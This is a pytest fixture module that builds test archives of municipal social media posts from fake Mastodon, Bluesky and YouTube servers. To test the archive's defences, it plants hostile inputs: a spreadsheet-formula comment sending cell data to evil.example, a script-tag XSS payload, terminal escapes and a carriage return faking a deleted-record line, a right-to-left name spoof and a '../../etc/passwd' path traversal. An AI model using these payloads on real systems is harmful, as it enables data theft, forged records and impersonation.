"""A small archive for the registrars' tests, built by the real capture against the fake platform.

Two boards' accounts on one fake Mastodon instance, captured on two nights:

* night 1 (2026-11-20): the municipality's post about the bath house (2026-11-10) with
  comments, one of them hostile markup; the library's post (2026-11-17) with a question;
* night 2 (2026-11-21): a comment edited, a comment deleted, a new comment.

The archive is built once per test session (``registrar_archive``); tests only read it (exports
add objects under ``exports/`` only, which searches never read).

A second archive (``hostile_archive``) holds what an attacker can write, captured in one night
from three fake platforms: on Mastodon, comments that start a spreadsheet formula or carry
terminal escapes (one redraws its line to fake a ``[DELETED]`` marker), by an author whose name
holds a right-to-left override; on Bluesky, where every id is an ``at://`` URI with ``/`` and
``:``, a reply that fakes a line with a carriage return; on YouTube, videos whose ids are a path
traversal and a string of ``%``, spaces and non-ASCII letters.
"""

from __future__ import annotations

import datetime as dt
import os
import pathlib
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest

from archive_lib.capture.account import CaptureOptions
from archive_lib.capture.night import capture_night
from archive_lib.inventory import load_inventory
from archive_lib.storage import FileStore
from archive_lib.storage.base import ObjectStore
from tests.fakes.bluesky import FakeBluesky
from tests.fakes.mastodon import FakeMastodon
from tests.fakes.mastodon_png import make_png
from tests.fakes.youtube import FakeYouTube
from tests.helpers import FakeClock, write_inventory

NOW = dt.datetime(2026, 11, 20, 10, 0, tzinfo=dt.UTC)
NIGHT_1 = dt.date(2026, 11, 20)
NIGHT_2 = dt.date(2026, 11, 21)
SCRIPT_TEXT = "<script>document.title='pwned';window.pwned=1</script> Titta på <b>detta</b>!"
ACCOUNTS = [
    {"id": "ks-mastodon", "handle": "kristianstad"},
    {"id": "bibliotek-mastodon", "handle": "bibliotek", "board": "Kultur- och fritidsnämnden"},
]


@dataclass
class RegistrarArchive:
    """The archive's store and the ids of the items the tests look for."""

    store_url: str
    folder: pathlib.Path
    ids: dict[str, str] = field(default_factory=dict)

    @property
    def store(self) -> ObjectStore:
        return FileStore(self.store_url)


def build_archive(fake: FakeMastodon, store: ObjectStore, folder: pathlib.Path) -> dict[str, str]:
    """Capture the two nights described in the module docstring into ``store``; the ids by role."""
    town = fake.add_account("kristianstad", "Kristianstads kommun")
    library = fake.add_account("bibliotek", "Kristianstads bibliotek")
    anna = fake.add_account("anna", "Anna Lindqvist")
    mats = fake.add_account("mats", "Mats Ohlsson", domain="other.example")

    def at(day: int, hour: int) -> dt.datetime:
        return dt.datetime(2026, 11, day, hour, 0, tzinfo=dt.UTC)

    def say(author: object, text: str, when: dt.datetime, to: str | None = None, **kw: object) -> str:
        return str(fake.post(author, fake.html(text), in_reply_to=to, at=when, **kw)["id"])  # type: ignore[arg-type]

    ids: dict[str, str] = {}
    ids["post"] = say(
        town,
        "Badhuset stänger för renovering från måndag.",
        at(10, 8),
        media=[("ritning.png", make_png(3, 2, (0, 90, 200)), "image/png", "Ritning av nya bassängen")],
    )
    ids["question"] = say(anna, "Hur länge blir badhusets bassäng stängd?", at(10, 9), ids["post"])
    ids["answer"] = say(town, "Bassängen öppnar igen i mars.", at(10, 10), ids["question"])
    ids["doomed"] = say(
        mats, "Skandal att simhallen stänger igen! Ring kommunalrådet.", at(10, 11), ids["post"]
    )
    ids["edited"] = say(anna, "Simskolan börjar den 12 januari.", at(10, 12), ids["post"])
    ids["script"] = say(mats, SCRIPT_TEXT, at(10, 13), ids["post"])
    ids["library_post"] = say(library, "Biblioteket i Åhus har nya öppettider från december.", at(17, 9))
    ids["library_question"] = say(anna, "Öppnar ni på söndagar också?", at(17, 10), ids["library_post"])

    inventory = load_inventory(write_inventory(folder, fake.base_url, ACCOUNTS))
    clock = FakeClock(fake)
    first = capture_night(inventory, store, NIGHT_1, clock=clock, options=CaptureOptions())
    assert all(r.status == "ok" for r in first.results), [r.error for r in first.results]

    fake.advance(days=1)
    fake.edit(ids["edited"], fake.html("Simskolan börjar den 19 januari, inte den 12."))
    fake.delete(ids["doomed"])
    ids["late"] = say(anna, "Tack för beskedet om badhuset!", fake.clock.now(), ids["post"])
    second = capture_night(inventory, store, NIGHT_2, clock=clock, options=CaptureOptions())
    assert all(r.status == "ok" for r in second.results), [r.error for r in second.results]
    return ids


@pytest.fixture(scope="session")
def registrar_archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RegistrarArchive]:
    folder = tmp_path_factory.mktemp("registrar")
    store = FileStore((folder / "archive").as_uri())
    with FakeMastodon(now=NOW) as fake:
        ids = build_archive(fake, store, folder)
    yield RegistrarArchive(store.url, folder, ids)


RLO = "\u202e"
#: Shows as "Mallory Kristianstads kommun" where the override is obeyed.
SPOOFED_NAME = f"Mallory {RLO}nummok sdatsnaitsirK"
HOSTILE_TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?d="&A1;"Klicka här")',
    "plus": "+46 44 13 50 00 är numret",
    "minus": "-2+3 kronor mer i skatt",
    "at": "@SUMMA(1;2) stämmer inte",
    "escape": "\x1b]0;pwned\x07\x1b[31mRÖD TEXT\x1b[0m och \x9b2J en CSI",
    # Moves to the line's start, erases it and writes an item line of its own, marked deleted.
    "fake_deleted": (
        "Tack!\x1b[1G\x1b[2K    comment 1 · Kristianstads kommun · created 2026-11-10 09:00 [DELETED]"
    ),
}
#: A carriage return does the same without an escape (Bluesky keeps text as written).
FAKE_DELETED_CR = "Bra!\r    v1 deleted  made -                captured 2026-11-20 [DELETED]\x07"
TRAVERSAL_ID = "../../etc/passwd"
ODD_ID = "%2e%2e/lör dag 100%"
YOUTUBE_KEY_ENV = "HOSTILE_YOUTUBE_KEY"


def build_hostile_archive(
    mastodon: FakeMastodon,
    bluesky: FakeBluesky,
    youtube: FakeYouTube,
    store: ObjectStore,
    folder: pathlib.Path,
) -> dict[str, str]:
    """Capture the hostile night described in the module docstring; the ids by role."""
    ids: dict[str, str] = {}
    town = mastodon.add_account("kristianstad", "Kristianstads kommun")
    mallory = mastodon.add_account("mallory", SPOOFED_NAME, domain="evil.example")
    post = mastodon.post(town, mastodon.html("Budgeten för 2027 är klar."), at=NOW - dt.timedelta(days=2))
    ids["mastodon_post"] = str(post["id"])
    for n, (role, text) in enumerate(HOSTILE_TEXTS.items()):
        at = NOW - dt.timedelta(days=1, minutes=-n)
        ids[role] = str(mastodon.post(mallory, mastodon.html(text), in_reply_to=post["id"], at=at)["id"])

    town_sky = bluesky.add_actor("kristianstad.se", "Kristianstads kommun")
    mallory_sky = bluesky.add_actor("mallory.bsky.social", SPOOFED_NAME)
    root = bluesky.post(town_sky, "Ny cykelväg längs Helge å.", at=NOW - dt.timedelta(days=2))
    reply = bluesky.post(mallory_sky, FAKE_DELETED_CR, reply_to=root, at=NOW - dt.timedelta(days=1))
    ids["bluesky_post"], ids["bluesky_reply"] = root.uri, reply.uri

    youtube_key = youtube.add_key("AIzaSy-hostile-archive-TEST-0123456789")
    channel = youtube.add_channel("kristianstadkommun", "Kristianstads kommun")
    traversal = youtube.upload(
        channel, "Budget 2027 förklarad", at=NOW - dt.timedelta(days=2), video_id=TRAVERSAL_ID
    )
    odd = youtube.upload(channel, "Lördagsöppet", at=NOW - dt.timedelta(days=2), video_id=ODD_ID)
    comment = youtube.comment(
        traversal, SPOOFED_NAME, HOSTILE_TEXTS["formula"], at=NOW - dt.timedelta(days=1)
    )
    ids["youtube_traversal"], ids["youtube_odd"], ids["youtube_comment"] = traversal.id, odd.id, comment.id

    accounts = [
        {"id": "ks-mastodon", "handle": "kristianstad"},
        {
            "id": "ks-bluesky",
            "platform": "bluesky",
            "handle": "kristianstad.se",
            "api_base": bluesky.base_url,
        },
        {
            "id": "ks-youtube",
            "platform": "youtube",
            "handle": "@kristianstadkommun",
            "token_env": YOUTUBE_KEY_ENV,
            "api_base": youtube.base_url,
        },
    ]
    inventory = load_inventory(write_inventory(folder, mastodon.base_url, accounts))
    os.environ[YOUTUBE_KEY_ENV] = youtube_key
    try:
        night = capture_night(inventory, store, NIGHT_1, clock=FakeClock(mastodon), options=CaptureOptions())
    finally:
        del os.environ[YOUTUBE_KEY_ENV]
    assert all(r.status == "ok" for r in night.results), [(r.account_id, r.error) for r in night.results]
    return ids


@pytest.fixture(scope="session")
def hostile_archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RegistrarArchive]:
    folder = tmp_path_factory.mktemp("hostile")
    store = FileStore((folder / "archive").as_uri())
    with FakeMastodon(now=NOW) as mastodon, FakeBluesky(now=NOW) as bluesky, FakeYouTube(now=NOW) as youtube:
        ids = build_hostile_archive(mastodon, bluesky, youtube, store, folder)
    yield RegistrarArchive(store.url, folder, ids)
